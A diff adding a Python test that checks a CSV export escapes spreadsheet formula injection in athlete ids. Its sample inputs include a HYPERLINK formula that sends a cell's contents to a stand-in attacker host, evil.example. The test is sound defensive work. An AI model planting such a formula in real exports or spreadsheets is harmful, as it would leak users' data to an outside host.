@@ -108,3 +108,27 @@ def test_without_dask_one_line_says_how_to_install(monkeypatch, daily_log, tmp_p
     result = CliRunner().invoke(main, ["cohort", str(daily_log), "--out", str(tmp_path / "out")])
     assert result.exit_code == 1
     assert result.output == "Error: the cohort command needs Dask: pip install 'hamstring-analyzer[cohort]'\n"
+
+
+def test_problems_csv_quotes_athlete_ids_a_spreadsheet_would_run(daily_log, tmp_path):
+    """Issue 27: an athlete id like ``=HYPERLINK(...)`` in a row left out is written to problems.csv with a ``'`` in front
+    (a spreadsheet shows it, never runs it), and reads back to the id as typed; plain ids are written as they are."""
+    import csv
+
+    from hamstring_analyzer.safetext import unescape_formula
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+1+1", "-1+1", "'=1"]
+    log = tmp_path / daily_log.name
+    text = daily_log.read_text()
+    rows = [[90000 + k, "not a date", who, 5.0, 30.0, "F", "18 - 34", "Spain", "Berlin"] for k, who in enumerate(hostile + ["plain 7"])]
+    with log.open("w", newline="") as f:
+        f.write(text)
+        csv.writer(f, lineterminator="\n").writerows(rows)
+    summary = run_cohort(log, tmp_path / "out", plain=True)
+    with (tmp_path / "out" / "problems.csv").open(newline="") as f:
+        written = list(csv.DictReader(f))
+    cells = {r["line"]: r["athlete"] for r in written if r["reason"].startswith("no readable date")}
+    assert sorted(cells.values()) == sorted(["'" + h for h in hostile] + ["plain 7"])
+    assert sorted(unescape_formula(c) for c in cells.values()) == sorted(hostile + ["plain 7"])
+    assert len(summary.problems) == len(written) == len(hostile) + 1
+    assert [p["athlete"] for p in summary.problems] == hostile + ["plain 7"]  # the summary keeps the ids as typed
